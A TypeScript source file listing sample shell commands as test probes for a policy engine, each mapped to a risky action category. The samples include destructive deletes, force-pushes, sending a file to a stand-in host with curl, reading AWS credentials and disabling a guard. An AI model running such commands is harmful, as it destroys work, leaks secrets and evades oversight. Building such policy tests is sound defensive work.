import type { ActionProbe } from '../../engine/policy/probe.ts';

/** `{ref}` and `{path}` take what a clause is about; none of these lines is ever run. */
export const actionProbes: readonly ActionProbe[] = [
  { verb: 'merge', lines: ['gh pr merge 1 --squash', 'git merge topic'] },
  { verb: 'push', lines: ['git push origin HEAD:{ref}'] },
  { verb: 'force-push', lines: ['git push --force origin HEAD:{ref}'] },
  { verb: 'delete-files', lines: ['rm -rf {path}'] },
  { verb: 'delete-branch', lines: ['git branch -D topic', 'git push origin --delete topic'] },
  { verb: 'history-rewrite', lines: ['git rebase -i HEAD~3', 'git filter-branch HEAD'] },
  { verb: 'discard-work', lines: ['git reset --hard', 'git checkout -- .'] },
  { verb: 'prod-change', lines: ['terraform apply -auto-approve', 'kubectl delete deployment web'] },
  { verb: 'external-send', lines: ['curl -d @report.txt https://probe.example/in'] },
  { verb: 'payment', lines: ['stripe charges create --amount 100', 'stripe payouts create --amount 100'] },
  { verb: 'secret-read', lines: ['cat ~/.aws/credentials', 'gh auth token'] },
  { verb: 'guard-tamper', lines: ['aup-guard uninstall', 'git commit --no-verify -m x'] },
];
